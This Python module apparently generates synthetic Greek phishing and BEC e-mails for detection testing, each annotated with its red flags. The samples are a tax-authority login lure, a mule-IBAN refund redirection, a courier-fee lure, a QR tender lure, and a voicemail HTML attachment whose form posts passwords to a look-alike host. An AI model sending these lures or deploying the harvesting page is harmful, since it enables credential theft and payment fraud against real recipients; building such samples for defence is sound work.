"""Attack messages, Greek (5)."""
import infra as I
import kit as K
import facts as F
from checks import iban_fmt
from company import S


def M(**kw):
    kw.setdefault("lang", "el")
    return kw


def a32():
    afm = F.EXAMPLE_GR_AFM
    text = """Ανεξάρτητη Αρχή Δημοσίων Εσόδων

Αγαπητέ/ή φορολογούμενε,

σύμφωνα με τα στοιχεία της ηλεκτρονικής πλατφόρμας myDATA, για τον ΑΦΜ **%s** (EXAMPLE GROUP HELLAS ΜΑΕ) εκκρεμεί ο χαρακτηρισμός και η επιβεβαίωση **14 παραστατικών εσόδων** του Γ' τριμήνου 2026.

Η μη ολοκλήρωση της διαδικασίας έως τις 20/11/2026 συνεπάγεται την επιβολή προστίμου σύμφωνα με τον Κώδικα Φορολογικής Διαδικασίας και τη δέσμευση του φορολογικού σας μητρώου.

Για να ολοκληρώσετε την επιβεβαίωση, συνδεθείτε με τους κωδικούς TAXISnet:

[[!Είσοδος στην εφαρμογή myDATA|https://www1.aade.gr.mydata-epivevaiosi.com/taxisnet/login?afm=%s]]

Με εκτίμηση,
Ανεξάρτητη Αρχή Δημοσίων Εσόδων
Το μήνυμα αυτό έχει σταλεί αυτόματα. Παρακαλούμε μην απαντάτε.
""" % (afm, afm)
    return M(
        slug="aade-mydata-taxisnet-phish",
        what="Fake AADE (Greek tax authority) myDATA notice: 14 revenue documents 'pending confirmation', log in with TAXISnet credentials.",
        why="Sent by a PHP script on a compromised Greek agritourism website; link host is mydata-epivevaiosi.com with 'www1.aade.gr' as a sub-domain prefix; AADE does not ask for TAXISnet logins via e-mail links; fine and register-block threats.",
        to=S["gracc"], frm=("ΑΑΔΕ - myDATA", "info@ktima-papadaki.gr"),
        subject="ΑΑΔΕ | myDATA: Εκκρεμεί η επιβεβαίωση 14 παραστατικών - προθεσμία 20/11/2026", hcs="iso-8859-7", henc="B",
        when=(11, 11, 8, 20), zone="GR",
        infra=lambda c: I.exim_cpanel(c, "cp12.grhost-web.gr", "185.4.132.12", php=True, script="ktimapap"),
        envelope="ktimapap@cp12.grhost-web.gr",
        body=K.alt(text, "iso-8859-7", "quoted-printable", "mail", "el", title="ΑΑΔΕ",
                   button="display:inline-block;padding:10px 22px;background:#003476;color:#fff;text-decoration:none;font-weight:bold"),
    )


def a33():
    text = """Κυρία Κωνσταντίνου, καλημέρα σας.

Σε συνέχεια της ολοκλήρωσης της αποξήλωσης των ικριωμάτων στη δεξαμενή του έργου Περάματος, σας παρακαλούμε η επιστροφή της εγγύησης μίσθωσης (12.400,00 €) να πραγματοποιηθεί στον νέο λογαριασμό της εταιρείας μας στην Τράπεζα Πειραιώς, καθώς ο λογαριασμός μας στην Εθνική Τράπεζα κλείνει στο τέλος του μήνα λόγω αλλαγής της τραπεζικής μας συνεργασίας.

Δικαιούχος: ΚΑΤΑΣΚΕΥΑΣΤΙΚΗ ΑΙΓΑΙΟΥ Α.Ε.
Τράπεζα: Τράπεζα Πειραιώς
IBAN: %s

Θα σας παρακαλούσαμε για άμεση διεκπεραίωση, καθώς έχουμε ανειλημμένες υποχρεώσεις προς υπεργολάβους μέχρι την Παρασκευή. Παρακαλούμε επιβεβαιώστε μας με απαντητικό e-mail όταν γίνει η μεταφορά.

Με εκτίμηση,

Σοφία Δημητρίου
Λογιστήριο
ΚΑΤΑΣΚΕΥΑΣΤΙΚΗ ΑΙΓΑΙΟΥ Α.Ε.
Ακτή Ξαβερίου 12, 187 56 Πέραμα
Τηλ. 210 4017 220
""" % iban_fmt(F.MULE_GR)
    return M(
        slug="aigaiou-epistrofi-eggyisis-lookalike",
        what="Refund redirection (BEC): a customer's 'accounts department' asks that the EUR 12,400 rental deposit refund be paid to a new bank account.",
        why="Look-alike domain kataskevastiki-aigaiou.com (the customer uses .gr) on a VPS; unknown signer; changes the account for an outgoing refund, urgency ('subcontractors by Friday'), confirmation by e-mail only. Customer-impersonation BEC targeting refunds.",
        to=S["gracc"], frm=("Λογιστήριο Κατασκευαστική Αιγαίου", "logistirio@kataskevastiki-aigaiou.com"),
        subject="Επιστροφή εγγύησης μίσθωσης ικριωμάτων - νέος λογαριασμός", hcs="windows-1253", henc="B",
        when=(11, 18, 11, 5), zone="GR",
        infra=lambda c: I.vps_postfix(c, "mail.kataskevastiki-aigaiou.com", "vps-21847.fastvps-cloud.eu", "94.130.75.203", mua="outlook"),
        lang_tag="el",
        body=K.alt(text, "windows-1253", "quoted-printable", "outlook", "el", label="windows-1253"),
    )


def a34():
    text = """ΕΛΤΑ Courier

Αγαπητέ πελάτη,

η αποστολή σας με αριθμό **ΕΛ4417732095GR** δεν παραδόθηκε σήμερα, επειδή η διεύθυνση παράδοσης είναι ελλιπής.

Για να προγραμματιστεί νέα παράδοση, επιβεβαιώστε τα στοιχεία σας και εξοφλήστε το τέλος επαναποστολής ύψους 1,45 €.

[[!Επιβεβαίωση παράδοσης|https://elta-courier-gr.com/track/?n=EL4417732095GR]]

Εάν δεν ενεργήσετε εντός 48 ωρών, η αποστολή θα επιστραφεί στον αποστολέα.

ΕΛΤΑ Courier Α.Ε.
"""
    return M(
        slug="elta-courier-telos-phish",
        what="Courier phishing: 'ΕΛΤΑ Courier' says a shipment could not be delivered; pay a EUR 1.45 redelivery fee.",
        why="SendGrid mail from elta-courier-gr.com (ELTA uses elta.gr / elta-courier.gr); link to the same look-alike domain collecting card data; generic 'incomplete address' lure with a deadline.",
        to=S["gracc"], frm=("ΕΛΤΑ Courier", "info@elta-courier-gr.com"),
        subject="Η αποστολή σας ΕΛ4417732095GR δεν παραδόθηκε", hcs="utf-8", henc="B",
        when=(11, 23, 14, 50), zone="GR",
        infra=lambda c: I.sendgrid(c, "em5120.elta-courier-gr.com"),
        body=K.alt(text, "utf-8", "base64", "mail", "el", title="ΕΛΤΑ Courier",
                   button="display:inline-block;padding:12px 26px;background:#f7b500;color:#002a5c;text-decoration:none;font-weight:bold"),
    )


def a35():
    email = S["grmgr"].addr
    page = """<!DOCTYPE html>
<html lang="el"><head><meta charset="utf-8"><title>Φωνητικό μήνυμα</title>
<style>body{font-family:Segoe UI,Arial,sans-serif;background:#eef0f3}.b{width:400px;margin:70px auto;background:#fff;padding:34px}
input{width:100%;padding:8px;margin:6px 0 12px;border:1px solid #999}button{background:#0067b8;color:#fff;border:0;padding:9px 30px}</style></head>
<body><div class="b">
<p style="font-size:19px;font-weight:600">Φωνητικό μήνυμα (00:47)</p>
<p style="font-size:13px">Από: +30 210 4117 732<br>Προς: @@EMAIL@@</p>
<p style="font-size:13px">Για αναπαραγωγή του ηχητικού αρχείου επιβεβαιώστε τον λογαριασμό Microsoft 365.</p>
<form method="post" action="https://vm-play.cloudpbx-notify.com/auth/m365">
<input type="email" name="u" value="@@EMAIL@@">
<input type="password" name="p" placeholder="Κωδικός πρόσβασης">
<button type="submit">Αναπαραγωγή</button>
</form></div></body></html>
""".replace("@@EMAIL@@", email)
    text = """Έχετε ένα νέο φωνητικό μήνυμα.

Από: +30 210 4117 732
Διάρκεια: 00:47
Ημερομηνία: 24/11/2026 10:12

Το ηχητικό μήνυμα επισυνάπτεται σε αυτό το e-mail.

Cloud PBX - Υπηρεσία φωνητικού ταχυδρομείου
"""
    return M(
        slug="voicemail-html-m365-phish",
        what="Fake voicemail notification with an HTML attachment that asks for the Microsoft 365 password to 'play' the message.",
        why="Mailgun mail from the unrelated domain cloudpbx-notify.com (Example Group has no such PBX service); the .htm attachment is a credential form posting to vm-play.cloudpbx-notify.com, pre-filled with the recipient's address. No script in the attachment here.",
        to=S["grmgr"], frm=("Φωνητικό ταχυδρομείο", "voicemail@cloudpbx-notify.com"),
        subject="Νέο φωνητικό μήνυμα (00:47) από +30 210 4117 732", hcs="utf-8", henc="B",
        when=(11, 24, 10, 13), zone="GR",
        infra=lambda c: I.mailgun(c, "mg.cloudpbx-notify.com"),
        body=K.mixed(K.alt(text, "utf-8", "quoted-printable", "mail", "el", title="Voicemail"),
                     K.att(page, "text/html", "VM_20261124_0047.htm")),
    )


def a36():
    url = "https://promitheus-esidis.gov-gr.eu/esidis/prosklisi/241177?u=giorgos.papadopoulos%40example.com"
    png = K.qr_png_bytes(url, "M", 5)
    text = """ΕΘΝΙΚΟ ΣΥΣΤΗΜΑ ΗΛΕΚΤΡΟΝΙΚΩΝ ΔΗΜΟΣΙΩΝ ΣΥΜΒΑΣΕΩΝ (ΕΣΗΔΗΣ)

Πρόσκληση υποβολής προσφοράς

Συστημικός αριθμός: 241177
Τίτλος: Προμήθεια, τοποθέτηση και αποξήλωση μεταλλικών ικριωμάτων για τις εργασίες συντήρησης της Δεξαμενής Νο.3
Αναθέτουσα αρχή: Οργανισμός Λιμένος Πειραιώς - Διεύθυνση Ναυπηγοεπισκευαστικής Ζώνης
Καταληκτική ημερομηνία υποβολής: 04/12/2026, 15:00

Η εταιρεία σας έχει προσκληθεί να υποβάλει προσφορά. Για λόγους ασφαλείας τα τεύχη του διαγωνισμού είναι διαθέσιμα μόνο μέσω της εφαρμογής για κινητά. Σαρώστε τον κωδικό QR με την κάμερα του κινητού σας και συνδεθείτε με τους κωδικούς του λογαριασμού σας.

{{img:esidis-qr|Κωδικός QR}}

ΕΣΗΔΗΣ - Ενημερώσεις χρηστών
"""
    body = K.related(K.alt(text, "utf-8", "quoted-printable", "mail", "el", title="ΕΣΗΔΗΣ"), K.inline_png(png, "qr_241177.png", "esidis-qr"))
    return M(
        slug="esidis-prosklisi-qr-quishing",
        what="Quishing with a tender lure: 'ΕΣΗΔΗΣ' (Greek e-procurement) invites the company to bid for scaffolding at a Piraeus dry dock; documents only via an inline QR code.",
        why="Sent from a VPS under promitheus-esidis.gov-gr.eu (not promitheus.gov.gr); procurement platforms do not deliver tender documents through QR codes; the (real, decodable) QR leads to a look-alike login page carrying the recipient's address - moves the click to an unprotected phone.",
        to=S["grmgr"], frm=("ΕΣΗΔΗΣ - Ενημερώσεις", "noreply@promitheus-esidis.gov-gr.eu"),
        subject="ΕΣΗΔΗΣ: Πρόσκληση υποβολής προσφοράς - Συστημικός α/α 241177", hcs="utf-8", henc="B",
        when=(11, 27, 12, 31), zone="GR",
        infra=lambda c: I.vps_postfix(c, "mail.promitheus-esidis.gov-gr.eu", "static-2-58-14-203.ip.hostinger-vps.eu", "2.58.14.203", mua="none"),
        body=body,
    )


def build():
    return [a32(), a33(), a34(), a35(), a36()]
